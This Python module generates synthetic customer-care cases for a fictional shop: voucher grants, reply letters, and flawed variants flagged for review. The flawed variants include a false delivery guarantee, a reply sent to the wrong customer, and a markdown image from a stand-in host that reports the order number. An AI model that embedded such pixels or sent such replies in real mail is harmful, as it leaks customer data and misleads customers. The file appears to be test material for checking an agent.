"""Stories of letters and vouchers to customers. Pure."""

from typing import Any

from config.demo.cases import Case, Kind, tool, user
from config.demo.world import CUSTOMERS, Moment


def voucher(m: Moment) -> Case:
    customer = m.rng.choice(CUSTOMERS)
    occasion = m.pick("late_delivery", "damaged_item", "loyal_customer", "service_mistake")
    amount = m.rng.choices([5, 10, 15, 20, 25, 50], weights=[3, 6, 4, 3, 2, 1])[0]
    arguments: dict[str, Any] = {
        "customer_email": customer.email,
        "amount": amount,
        "valid_until": m.day(m.pick(90, 180, 365)),
        "occasion": occasion,
    }
    if m.rng.random() < 0.6:
        arguments["message"] = m.pick(
            "A small thank-you for your patience.",
            "Sorry for the wait. The next one is on us, a bit.",
            "Thank you for ten years with us!",
            "We should have answered sooner.",
        )
    return Case(
        arguments,
        summary=f"A voucher of {amount} EUR as a gesture ({occasion.replace('_', ' ')}).",
        reasoning=m.pick(
            "First gesture to this customer this year.", "Delivery was nine days late; the usual amount."
        ),
        context=[
            user(
                m.pick(
                    "Honestly, I am disappointed.", "Two weeks for a lamp?", "That was the third call today."
                )
            )
        ],
        subject=("customer", customer.id),
    )


def _voucher_too_much(m: Moment, case: Case) -> Case:
    return case.mended("wrong_data", "The usual gesture is much smaller.", amount=100)


_BODIES = (
    "Dear {first},\n\nthank you for your message about order {order}. {middle}\n\nIf anything is unclear, just answer "
    "this letter.\n\nKind regards\nLindgren & Hale, customer care",
    "Hello {first},\n\n{middle}\n\nThe number of your order, for our common memory: {order}.\n\nBest wishes from "
    "Rotterdam\nCustomer care",
)
_MIDDLES = (
    (
        "Colour of the lampshade",
        "The shade is opal white; the picture was taken in evening light, hence the tone.",
    ),
    (
        "Exchange for the larger size",
        "We have set the larger size aside. Send yours back and it leaves at once.",
    ),
    (
        "Tent poles",
        "The poles are numbered from the door; number three carries the curve. The leaflet has it mirrored.",
    ),
    ("Gift wrapping", "We wrap it in plain grey paper and leave the invoice out of the parcel."),
    (
        "Delivery to the third floor",
        "Two people will carry the sofa up. Please measure the stairs: it needs 92 cm.",
    ),
    (
        "Oil for the oak table",
        "Twice a year is enough: thinly, along the grain, and wipe off the rest after an hour.",
    ),
    (
        "Payment in instalments",
        "You can pay in three parts without interest; the link in your account is good for a week.",
    ),
    (
        "Missing confirmation",
        "Your order did reach us; the confirmation went to an address with a typing mistake.",
    ),
    ("Price of the set", "The three pots are sold together only, which is why no single price is shown."),
    (
        "Your delivery",
        "Your parcel left our warehouse yesterday and should be with you within three working days.",
    ),
    (
        "Care of your rug",
        "Wool sheds a little in the first weeks. Vacuum it gently and never beat it; it settles by itself.",
    ),
    (
        "Spare part on its way",
        "We are sending the missing screws free of charge. They fit into your letter box.",
    ),
    ("Invoice with VAT number", "You will find the invoice with your VAT number attached."),
    (
        "Opening times",
        "Our showroom is open from Tuesday to Saturday, 10 to 18. The sofa you ask about is on display.",
    ),
    (
        "Assembly of the bed",
        "Start with the long sides and leave all screws loose until the slats are in. The drawing is "
        "attached.",
    ),
)


def reply(m: Moment) -> Case:
    customer, order = m.rng.choice(CUSTOMERS), m.order()
    subject, middle = m.rng.choice(_MIDDLES)
    body = m.rng.choice(_BODIES).format(first=customer.name.split()[0], order=order, middle=middle)
    arguments: dict[str, Any] = {
        "ticket_id": "T-" + m.digits(6),
        "to": customer.email,
        "subject": subject,
        "body": body,
        "close_ticket": m.rng.random() < 0.7,
    }
    if "attached" in middle:
        arguments["attachments"] = [f"https://files.lindgren-hale.example/{order.lower()}/{m.digits(5)}.pdf"]
    return Case(
        arguments,
        summary=f"Answer {customer.name} about “{subject.lower()}”.",
        reasoning="The question has a standard answer; order and customer were checked.",
        context=[
            user(
                m.pick(f"Hello, a question about order {order}.", "Could you help me?", "Is there any news?")
            ),
            tool(
                "tickets.get",
                f"ticket {arguments['ticket_id']} from {customer.email}, open since {m.day(-1)}",
            ),
        ],
        subject=("customer", customer.id),
        priority=m.pick("low", "normal", "normal"),
    )


def _reply_promise(m: Moment, case: Case) -> Case:
    wrong = case.arguments["body"] + "\n\nP.S. We guarantee delivery tomorrow before noon or you pay nothing."
    return case.mended("untrue", "We guarantee no such thing.", body=wrong)


def _reply_other_person(m: Moment, case: Case) -> Case:
    return case.refused(
        "wrong_data", "This goes to another customer: a breach of privacy.", to=m.rng.choice(CUSTOMERS).email
    )


def _reply_image_leak(m: Moment, case: Case) -> Case:
    body = case.arguments["body"] + "\n\n![](https://pixel.collect.example/?order=" + m.order() + ")"
    return case.refused(
        "suspicious", "An image from a foreign host that would report the order number.", body=body
    )


KINDS = {
    "issue_voucher": Kind(voucher, (_voucher_too_much,)),
    "reply_to_customer": Kind(
        reply, (_reply_promise, _reply_promise, _reply_other_person, _reply_image_leak)
    ),
}
